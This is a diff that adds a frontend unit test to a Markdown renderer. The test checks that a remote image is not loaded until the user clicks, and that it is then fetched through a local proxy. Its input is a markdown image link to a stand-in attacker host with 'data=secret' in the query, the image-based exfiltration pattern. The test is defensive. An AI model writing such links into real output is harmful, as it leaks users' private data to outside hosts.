@@ -115,6 +115,38 @@ describe('Markdown', () => {
     expect(exported.firstElementChild?.className).toContain('md-export');
   });
 
+  it('loads another site’s picture only on a click, through the proxy', async () => {
+    const fetches: string[] = [];
+    const fetchMock = vi.fn(async (url: string) => {
+      fetches.push(url);
+      return new Response(new Blob([new Uint8Array([137, 80, 78, 71])], { type: 'image/png' }));
+    });
+    vi.stubGlobal('fetch', fetchMock);
+    const blobUrl = vi.spyOn(URL, 'createObjectURL').mockReturnValue('blob:local/1');
+    try {
+      const root = show('![leak](https://attacker.example/x.gif?data=secret)');
+      expect(root.querySelector('img')).toBeNull();
+      const button = screen.getByTestId('remote-image');
+      expect(button.textContent).toContain('attacker.example');
+      expect(fetches).toEqual([]);
+      fireEvent.click(button);
+      await waitFor(() =>
+        expect(root.querySelector('img')?.getAttribute('src')).toBe('blob:local/1'),
+      );
+      expect(fetches).toEqual([
+        `/api/proxy/image?url=${encodeURIComponent('https://attacker.example/x.gif?data=secret')}`,
+      ]);
+    } finally {
+      vi.unstubAllGlobals();
+      blobUrl.mockRestore();
+    }
+    cleanup();
+    // The PNG export names the site instead, with nothing to click.
+    const exported = show('![leak](https://attacker.example/x.gif)', 'export');
+    expect(exported.querySelector('img, button')).toBeNull();
+    expect(exported.textContent).toContain('attacker.example (not loaded)');
+  });
+
   it('follows a growing text: earlier blocks stay, the last one grows', () => {
     const { container, rerender } = render(<Markdown text="First **bold**" />);
     const first = container.querySelector('p');
